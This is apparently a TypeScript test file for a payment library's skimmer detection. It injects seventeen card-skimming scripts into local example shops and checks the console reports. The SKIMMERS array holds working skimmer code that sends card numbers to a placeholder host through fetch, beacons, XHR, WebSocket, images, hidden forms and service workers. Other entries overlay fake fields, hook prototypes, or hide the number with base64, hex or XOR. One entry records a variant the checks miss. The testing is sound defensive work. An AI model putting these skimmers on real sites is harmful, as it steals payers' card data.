/**
 * Tests of known kinds of skimmers in the example shops. For each, the library reports its script
 * and line on the console. Shops without a skimmer get no report.
 */
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { text } from 'node:stream/consumers'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startShop as startAjaxCheckout } from '../../examples/ajax-checkout/server.ts'
import type { Shop } from '../../examples/shared/server.ts'
import { startShop as startStoredCard } from '../../examples/stored-card/server.ts'
import { startShop as startThreeDSecure } from '../../examples/three-d-secure/server.ts'
import { launchBrowser, type TestBrowser } from '../helpers/browser.ts'
import { type Checkout, startCheckout } from '../helpers/checkout.ts'
import { CARD, paidOrder } from './checkout-page.ts'

/**
 * A skimmer: a script that steals cards. It is loaded from another host, at the end of the shop's
 * page.
 */
interface Skimmer {
  readonly kind: string
  /** Source of the script. `HOST` is replaced by the host that collects the cards. */
  readonly code: string
  /**
   * Code of the library's report, and the part of the report that names the script. Undefined if
   * the library reports nothing.
   */
  readonly report: readonly [code: string, names: RegExp] | undefined
  /** True if the skimmer hides the fields, so that the payer cannot type. */
  readonly hidesFields?: true
}

const SKIMMERS: readonly Skimmer[] = [
  {
    kind: 'a listener of the document sends the number with fetch',
    code: `document.addEventListener('input', ({ target }) => {
      if (target.id === 'card-number')
        fetch('HOST', { method: 'POST', mode: 'no-cors', body: JSON.stringify([target.value]) })
    })`,
    report: ['scripts.sends_card', /SCRIPT, line 3,.* HOST \(fetch\)/],
  },
  {
    kind: 'an interval reads the field and sends it as base64 in a beacon',
    code: `setInterval(() => {
      navigator.sendBeacon('HOST', btoa(document.querySelector('#card-number').value))
    }, 50)`,
    report: ['scripts.sends_card', /SCRIPT, line 2,.* HOST \(sendBeacon\)/],
  },
  {
    kind: 'a submit handler sends the number backwards in an XMLHttpRequest',
    code: `document.querySelector('#payment').addEventListener('submit', () => {
      const request = new XMLHttpRequest()
      request.open('POST', 'HOST')
      request.send([...document.querySelector('#card-number').value].reverse().join(''))
    })`,
    report: ['scripts.sends_card', /SCRIPT, line 4,.* HOST \(XMLHttpRequest\)/],
  },
  {
    kind: 'a form of its own lies over the fields',
    code: `addEventListener('focusin', () => {
      const field = document.querySelector('#card-number').getBoundingClientRect()
      const layer = document.createElement('form')
      layer.innerHTML = '<input name="n" autocomplete="cc-number" style="width:100%;height:100%">'
      layer.style.cssText = 'position:absolute;z-index:9;left:' + field.left + 'px;top:' +
        (field.top + scrollY) + 'px;width:' + field.width + 'px;height:' + field.height + 'px'
      document.body.appendChild(layer)
    }, { once: true })`,
    report: ['scripts.covered_field', /SCRIPT, line 7,.* input\[name=n\] .*card_number/],
  },
  {
    kind: 'a frame takes the place of the fields',
    code: `addEventListener('focusin', () => {
      for (const field of document.querySelectorAll('#payment [autocomplete^=cc-]'))
        field.hidden = true
      const frame = document.createElement('iframe')
      frame.srcdoc = '<input autocomplete="cc-number">'
      document.querySelector('#payment').prepend(frame)
    }, { once: true })`,
    report: ['scripts.covered_field', /SCRIPT, line 6,.* iframe /],
    hidesFields: true,
  },
  {
    kind: 'a WebSocket gets the number percent-encoded',
    code: `const socket = new WebSocket('HOST'.replace('http', 'ws'))
    document.addEventListener('change', () => {
      const { value } = document.querySelector('#card-number')
      const hidden = [...value].map((each) => '%' + each.charCodeAt(0).toString(16)).join('')
      socket.send(hidden)
    })`,
    report: ['scripts.sends_card', /SCRIPT, line 5,.* ws:.* \(WebSocket\)/],
  },
  {
    kind: 'a hidden picture has the number in its address, twice base64',
    code: `document.addEventListener('keyup', () => {
      const { value } = document.querySelector('#card-number')
      new Image().src = 'HOST/pixel/' + encodeURIComponent(btoa(btoa(value))) + '.gif'
    })`,
    report: ['scripts.sends_card', /SCRIPT, line 3,.* HOST \(image\)/],
  },
  {
    kind: 'a tag manager adds the script later, which posts a hidden form',
    code: `addEventListener('focusin', () => {
      const tag = document.createElement('script')
      tag.textContent = \`document.addEventListener('change', () => {
        const form = document.createElement('form')
        const sink = Object.assign(document.createElement('iframe'), { name: 'sink', hidden: true })
        Object.assign(form, { action: 'HOST', method: 'post', target: 'sink', hidden: true })
        const { value } = document.querySelector('#card-number')
        form.append(Object.assign(document.createElement('input'), { name: 'n', value }))
        document.body.append(sink, form)
        form.submit()
      })
      //# sourceURL=HOST/late.js\`
      document.head.append(tag)
    }, { once: true })`,
    report: ['scripts.sends_card', /HOST\/late.js, line 8,.* HOST \(form\)/],
  },
  {
    kind: 'jQuery’s val and serialize are replaced',
    code: `const { val, serialize } = jQuery.fn
    jQuery.fn.serialize = function () { return serialize.call(this) + jQuery('#card-number').val() }
    jQuery(document).on('submit', () =>
      jQuery.ajax({ url: 'HOST', method: 'POST', data: { f: jQuery('#payment').serialize() } }))`,
    report: ['scripts.sends_card', /SCRIPT, line 4,.* HOST \(XMLHttpRequest\)/],
  },
  {
    kind: 'the getter of value is replaced',
    code: `const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')
    Object.defineProperty(HTMLInputElement.prototype, 'value', { ...own, get() {
      const text = own.get.call(this)
      if (text.length > 15) new Image().src = 'HOST?' + text
      return text
    } })`,
    report: ['scripts.replaced', /HTMLInputElement.prototype.value/],
  },
  {
    kind: 'FormData is replaced',
    code: `window.FormData = class extends FormData {
      constructor(form) {
        super(form)
        const number = document.querySelector('#card-number')
        if (number.value) fetch('HOST', { method: 'POST', mode: 'no-cors', body: number.value })
      }
    }`,
    report: ['scripts.replaced', /FormData/],
  },
  {
    kind: 'localStorage keeps the number as codes of characters',
    code: `document.addEventListener('input', () => {
      const { value } = document.querySelector('#card-number')
      localStorage.cache = JSON.stringify([...value].map((each) => each.charCodeAt(0)))
    })`,
    report: ['scripts.stores_card', /localStorage/],
  },
  {
    kind: 'a cookie keeps the number in hexadecimal',
    code: `document.addEventListener('input', () => {
      const { value } = document.querySelector('#card-number')
      const hidden = [...value].map((each) => each.charCodeAt(0).toString(16)).join('')
      document.cookie = '_ga=' + hidden
    })`,
    report: ['scripts.stores_card', /SCRIPT, line 4,.*a cookie/],
  },
  {
    kind: 'a service worker gets the number',
    code: `navigator.serviceWorker.register('/worker.js')
    document.addEventListener('change', async () => {
      const { value } = document.querySelector('#card-number')
      const { active } = await navigator.serviceWorker.ready
      active.postMessage({ value })
    })`,
    report: ['scripts.sends_card', /SCRIPT, line 5,.*\(ServiceWorker\)/],
  },
  {
    kind: 'every key is sent by itself',
    code: `document.addEventListener('keydown', ({ key }) => {
      new Image().src = 'HOST?' + key
    })`,
    report: ['scripts.sends_card', /SCRIPT, line 2,.* HOST \(image\)/],
  },
  {
    kind: 'a picture gets the number encrypted',
    code: `document.addEventListener('change', () => {
      const { value } = document.querySelector('#card-number')
      const hidden = [...value].map((each) => String.fromCharCode(each.charCodeAt(0) ^ 90)).join('')
      new Image().src = 'HOST?' + btoa(hidden)
    })`,
    report: ['scripts.reads_card', /SCRIPT, line 2,.*card_number/],
  },
  {
    kind: 'all functions come from a frame',
    code: `const frame = document.createElement('iframe')
    frame.hidden = true
    document.head.append(frame)
    const page = frame.contentWindow
    const { get } = Object.getOwnPropertyDescriptor(page.HTMLInputElement.prototype, 'value')
    document.addEventListener('change', () => page.fetch('HOST', { method: 'POST', mode: 'no-cors',
      body: get.call(document.querySelector('#card-number')) }))`,
    report: undefined,
  },
]

const SHOPS = {
  'ajax-checkout': startAjaxCheckout,
  'stored-card': startStoredCard,
  'three-d-secure': startThreeDSecure,
}

let checkout: Checkout
let browser: TestBrowser
let shops: readonly (readonly [name: string, shop: Shop])[]
/** Server in front of the shops, which also serves the scripts of the skimmers. */
let server: Server
let planted: Skimmer | undefined
let behind = ''

beforeAll(async () => {
  checkout = await startCheckout()
  await checkout.setThreeDSecure('off')
  browser = await launchBrowser()
  const options = {
    port: 0,
    gateway: checkout.gateway.addresses,
    merchant: checkout.gateway.merchant,
  }
  shops = await Promise.all(
    Object.entries(SHOPS).map(async ([name, start]) => [name, await start(options)] as const),
  )
  server = createServer(async (request, response) => {
    const { url = '', method = 'GET', headers } = request
    if (headers.host?.startsWith('skimmer.'))
      return void response
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(url === '/skimmer.js' ? planted?.code.replaceAll('HOST', host()) : '')
    if (url === '/worker.js')
      return void response.writeHead(200, { 'content-type': 'text/javascript' }).end('')
    const body = method === 'POST' ? await text(request) : null
    const answer = await fetch(behind + url, {
      method,
      body,
      headers: { 'content-type': headers['content-type'] ?? 'text/plain' },
    })
    const page = (await answer.text()).replace('</body>', () => `${planted ? TAG() : ''}</body>`)
    response
      .writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? '' })
      .end(page)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
})
afterAll(async () => {
  server.closeAllConnections()
  server.close()
  await Promise.all(shops.map(([, shop]) => shop.close()))
  await checkout.close()
})

const port = () => (server.address() as AddressInfo).port
const host = () => `http://skimmer.localhost:${port()}`
const TAG = () => `<script src="${host()}/skimmer.js"></script>`

/**
 * Opens a shop with or without a skimmer, types a card and pays.
 * @returns the messages on the console
 */
async function payAt({ url }: Shop, skimmer?: Skimmer) {
  behind = url
  planted = skimmer
  const { page } = await browser.open()
  const messages: string[] = []
  const lists: string[] = []
  page.on('console', (message) => {
    const said = message.text()
    if (said.startsWith('mondido.js: scripts.')) messages.push(said)
    if (said.startsWith('mondido.js: scripts of this page')) lists.push(said)
  })
  await page.goto(skimmer ? `http://localhost:${port()}/` : url)
  await page.waitForFunction(() => Symbol.for('mondido.watched') in window)
  await expect.poll(() => lists.length).toBeGreaterThan(0)
  if (skimmer?.hidesFields) await page.focus('#card-holder')
  else await typeCard(page)
  return { page, messages, lists }
}

async function typeCard(page: Page): Promise<void> {
  if (await page.isVisible('#card-number')) {
    await page.fill('#card-holder', CARD.holder)
    await page.locator('#card-number').pressSequentially(CARD.number.replaceAll(' ', ''))
    await page.fill('#card-expiry', CARD.expiry)
    await page.fill('#card-cvv', CARD.cvv)
  }
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#payment')?.requestSubmit())
}

describe('the developer checks report a skimmer:', () => {
  const told = SKIMMERS.filter(({ report }) => report)

  test.each(told.map((skimmer, index) => [skimmer.kind, skimmer, index] as const))(
    '%s',
    async (_kind, skimmer, index) => {
      const [, shop] = shops[index % shops.length] ?? []
      if (!shop || !skimmer.report) throw new Error('There is no shop.')
      const [code, names] = skimmer.report
      const { messages } = await payAt(shop, skimmer)
      const wanted = new RegExp(
        names.source.replaceAll('SCRIPT', `${host()}/skimmer\\.js`).replaceAll('HOST', host()),
      )
      const ours = () => messages.filter((each) => each.startsWith(`mondido.js: ${code}: `))
      await expect.poll(() => ours().join('\n') || messages.join('\n')).toMatch(wanted)
      for (const each of messages) {
        expect(each).toMatch(/docs#library-scripts\.\w+$/)
        expect(each).not.toMatch(/4111|\{\w+\}|undefined/)
      }
    },
  )

  test('at least eleven kinds of skimmers are known', () =>
    expect(told.length).toBeGreaterThanOrEqual(11))
})

test('a skimmer that takes all its functions from a frame is not found', async () => {
  const [, shop] = shops[0] ?? []
  if (!shop) throw new Error('There is no shop.')
  const { page, messages } = await payAt(
    shop,
    SKIMMERS.find(({ report }) => !report),
  )
  await paidOrder(page)
  expect(messages).toEqual([])
})

test.each(Object.keys(SHOPS))(
  'the checks report nothing in the shop %s without a skimmer',
  async (name) => {
    const [, shop] = shops.find(([each]) => each === name) ?? []
    if (!shop) throw new Error('There is no shop.')
    const { page, messages, lists } = await payAt(shop)
    await paidOrder(page)
    expect(messages).toEqual([])
    expect(lists.at(-1)).toMatch(/^without integrity: .*jquery/m)
  },
)
